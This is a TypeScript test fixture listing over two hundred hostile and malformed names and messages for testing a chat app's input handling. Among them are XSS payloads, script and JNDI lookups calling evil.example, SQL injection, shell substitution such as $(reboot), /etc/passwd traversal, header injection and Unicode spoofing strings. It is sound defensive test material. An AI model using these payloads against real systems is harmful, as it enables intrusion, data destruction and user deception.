/**
 * What somebody may call themselves or write to do harm, or by accident: over two hundred names and
 * messages, all made up. Whatever of it is run calls `hostile()`.
 */
export interface Hostile {
  what: string
  text: string
}

const group = (what: string, texts: string[]): Hostile[] =>
  texts.map((text, at) => ({ what: `${what} ${at + 1}`, text }))

const times = (text: string, count: number) => text.repeat(count)
const from = (...codes: number[]) => String.fromCodePoint(...codes)
const range = (first: number, last: number) =>
  Array.from({ length: last - first + 1 }, (_, i) => from(first + i))

const run = 'hostile()'
const handlers = ['onerror', 'onload', 'onfocus', 'ontoggle', 'onmouseover', 'onanimationstart']

const html = group('markup', [
  `<script>${run}</script>`,
  `<ScRiPt>${run}</sCrIpT>`,
  `<script src="https://evil.example/x.js"></script>`,
  `<script>${run}`,
  `</script><script>${run}</script>`,
  `"><script>${run}</script>`,
  `'><img src=x onerror=${run}>`,
  ...handlers.map((handler) => `<img src=x ${handler}=${run}>`),
  ...handlers.map((handler) => `<svg ${handler}=${run}></svg>`),
  `<svg><script>${run}</script></svg>`,
  `<svg><a xlink:href="javascript:${run}"><text y=20>klik</text></a></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${run}></style></mglyph></table></mtext></math>`,
  `<iframe src="javascript:${run}"></iframe>`,
  `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
  `<object data="javascript:${run}"></object>`,
  `<embed src="javascript:${run}">`,
  `<a href="javascript:${run}">hadiah</a>`,
  `<form action="javascript:${run}"><button>kirim</button></form>`,
  `<input autofocus onfocus=${run}>`,
  `<details open ontoggle=${run}>lihat</details>`,
  `<video><source onerror=${run}></video>`,
  `<body onload=${run}>`,
  `<meta http-equiv="refresh" content="0;url=javascript:${run}">`,
  '<base href="https://evil.example/">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<style>*{display:none!important}</style>',
  '<div style="position:fixed;inset:0;background:red;z-index:99999">GRATIS</div>',
  '<marquee>Promo!</marquee>',
  '<plaintext>',
  '<textarea>',
  '<!--',
  '<![CDATA[',
  '</div></div></main></body></html>',
  `<template><script>${run}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  `&lt;script&gt;${run}&lt;/script&gt;`,
  `&#60;script&#62;${run}&#60;/script&#62;`,
  `\\u003cscript\\u003e${run}\\u003c/script\\u003e`,
  `%3Cscript%3E${run}%3C/script%3E`,
  `<img src="x" alt="\`" onerror=${run}>`,
  `${from(0xff1c)}script${from(0xff1e)}${run}`,
])

const links = group('link', [
  `javascript:${run}`,
  `JaVaScRiPt:${run}`,
  ` javascript:${run}`,
  `java\tscript:${run}`,
  `java\nscript:${run}`,
  `${from(1)}javascript:${run}`,
  `javascript://example.com/%0a${run}`,
  `https://javascript:${run}@example.com/`,
  `data:text/html,<script>${run}</script>`,
  `data:text/html;base64,PHNjcmlwdD5ob3N0aWxlKCk8L3NjcmlwdD4=`,
  `vbscript:${run}`,
  'file:///etc/passwd',
  'blob:https://example.com/1',
  'intent://scan/#Intent;scheme=zxing;end',
  'https://',
  'https://.',
  'https://example.com:99999999/',
  'https://example.com\\@evil.example/',
  'https://user:password@example.com/',
  'https://[::1]/',
  'https://xn--80ak6aa92e.example/',
  'https://аррӏе.example/',
  `https://example.com/"onmouseover="${run}`,
  `https://example.com/'><script>${run}</script>`,
  `https://example.com/${times('a', 3000)}`,
  `https://${times('sub.', 60)}example.com/`,
  `https://example.com/?${times('q=1&', 800)}`,
  `https://example.com/${from(0x202e)}gpj.exe`,
  `[klik](javascript:${run})`,
  `http://example.com http://example.com ${times('https://example.com/x ', 200)}`,
])

const code = group('code', [
  '{{7*7}}',
  `{{constructor.constructor('${run}')()}}`,
  `\${${run}}`,
  '#{7*7}',
  '<%= 7*7 %>',
  '{{name}}',
  '__proto__',
  'constructor',
  'hasOwnProperty',
  'toString',
  'null',
  'undefined',
  'NaN',
  'true',
  '[object Object]',
  '-1',
  '1e400',
  '0x7fffffff',
  '{"$gt":""}',
  "' OR 1=1 --",
  "'; DROP TABLE chats; --",
  '../../../../etc/passwd',
  '%s%s%s%n',
  '%00',
  '$(reboot)',
  '`reboot`',
  '| ls',
  `\${jndi:ldap://evil.example/a}`,
  '=HYPERLINK("https://evil.example","hadiah")',
  '\r\nSet-Cookie: balas=1',
])

const turns = [0x202a, 0x202b, 0x202d, 0x202e, 0x2066, 0x2067, 0x2068]
const direction = group('direction', [
  ...turns.map((turn) => `Sari ${from(turn)}irasatnaS iduB`),
  `${times(from(0x202e), 500)}terbalik`,
  `${times(from(0x2067, 0x202e), 300)}dalam${times(from(0x202c), 10)}`,
  `${from(0x200f)}${from(0x200e)}Sari`,
  `Rp150.000${from(0x202e)}000.051pR`,
  `${from(0x2069, 0x202c)}Sari`,
  'مرحبا، هل القميص متوفر بمقاس XL؟ السعر 150.000',
  'שלום, האם החולצה זמינה? https://example.com/חולצה?q=1',
  `سعر ${times('١٢٣ abc ', 100)}`,
])

const unseen = [
  0x200b, 0x200c, 0x200d, 0x2060, 0x00ad, 0xfeff, 0x034f, 0x3164, 0x2800, 0x180e, 0xe0020,
]
const invisible = group('invisible', [
  ...unseen.map((sign) => from(sign)),
  ...unseen.slice(0, 6).map((sign) => times(from(sign), 5000)),
  `S${times(from(0x200b), 2000)}ari`,
  range(0xe0061, 0xe007a).join(''),
  `Sari${times(from(0xfe0f), 300)}`,
])

const marks = range(0x0300, 0x036f).join('')
const stacked = group('stacked', [
  `S${marks}a${marks}r${marks}i${marks}`,
  `S${times(marks, 5)}`,
  times(from(0x0301), 1000),
  [...'Promo besar'].map((letter) => letter + marks.slice(0, 40)).join(''),
  [...'Sari Wulandari'].map((letter) => letter + times(from(0x0336), 8)).join(''),
  `ก${times('้', 200)}`,
  `${times('ด้้้้้็็็็็้้้้้็็็็็', 20)}`,
  `ༀ${times('ྫྷ', 100)}`,
  `a${times(from(0x20dd), 50)}`,
  times(`Z${marks.slice(0, 10)}`, 500),
])

const long = group('long', [
  times('a', 300),
  times('W', 1000),
  times('a', 5000),
  times('Halo kak ', 2000),
  times('x', 65_536),
  times('x', 100_000),
  times('Halo kak, apa kabar? ', 3100),
  times('Halo kak, apa kabar? ', 4800),
  times('9', 2000),
  times('-', 3000),
  times('_', 3000),
  times('.', 3000),
  times('字', 4000),
  times('สวัสดี', 800),
  times('안녕하세요', 800),
  times('नमस्ते', 800),
  `${times('a/', 2000)}b`,
  `${times('panjang@', 300)}example.com`,
  from(0xfdfd),
  times(from(0xfdfd), 40),
  times(from(0x1242b), 60),
  times(from(0xa9c5), 60),
])

const space = group('space', [
  ' ',
  times(' ', 5000),
  times('\n', 500),
  times('a\n', 1500),
  times('\r\n', 300),
  times('\t', 1000),
  `a${times('\v', 200)}b`,
  `a${times('\f', 200)}b`,
  times(from(0x2028), 200),
  times(from(0x2029), 200),
  times(from(0x3000), 500),
  times(from(0x00a0), 2000),
  `atas${times('\n', 300)}bawah`,
  `  ${times('spasi   ', 100)}`,
])

const control = group('control', [
  `a${from(0)}b`,
  range(1, 8).join(''),
  range(0x0e, 0x1f).join(''),
  `${from(0x1b)}[31mmerah${from(0x1b)}[0m`,
  from(0x7f),
  range(0x80, 0x9f).join(''),
  range(0xfff9, 0xfffd).join(''),
  range(0xe000, 0xe01f).join(''),
  from(0x10ffff),
])

const family = from(0x1f468, 0x200d, 0x1f469, 0x200d, 0x1f467, 0x200d, 0x1f466)
const emoji = group('emoji', [
  family,
  times(family, 200),
  from(0x1f44d, 0x1f3ff),
  range(0x1f3fb, 0x1f3ff).join(''),
  from(0x1f1ee, 0x1f1e9),
  times(from(0x1f1e6), 101),
  from(0x1f3f4, 0xe0067, 0xe0062, 0xe0065, 0xe006e, 0xe0067, 0xe007f),
  from(0x31, 0xfe0f, 0x20e3),
  `${from(0x1f9d1)}${times(from(0x200d, 0x1f9d1), 60)}`,
  times(from(0x1f600), 3000),
  range(0x1f600, 0x1f64f).join(''),
  from(0x2764, 0xfe0f, 0x200d, 0x1f525),
  from(0x1f3f3, 0xfe0f, 0x200d, 0x1f308),
  `${times(from(0x200d), 20)}${from(0x1f600)}`,
  from(0x1f575, 0x1f3fd, 0x200d, 0x2640, 0xfe0f),
])

const formatting = group('formatting', [
  times('*', 2000),
  times('_', 50) + times('*', 50) + times('~', 50),
  '*tebal _miring* salah_',
  '***',
  '* tidak tebal *',
  '`<b>kode</b>`',
  `\`\`\`<script>${run}</script>\`\`\``,
  times('*a* ', 1000),
  times('_*~`', 500),
  `*[x](javascript:${run})*`,
  `_${times('a_', 1000)}`,
  `> ${times('> ', 300)}kutipan`,
])

export const corpus: Hostile[] = [
  ...html,
  ...links,
  ...code,
  ...direction,
  ...invisible,
  ...stacked,
  ...long,
  ...space,
  ...control,
  ...emoji,
  ...formatting,
]
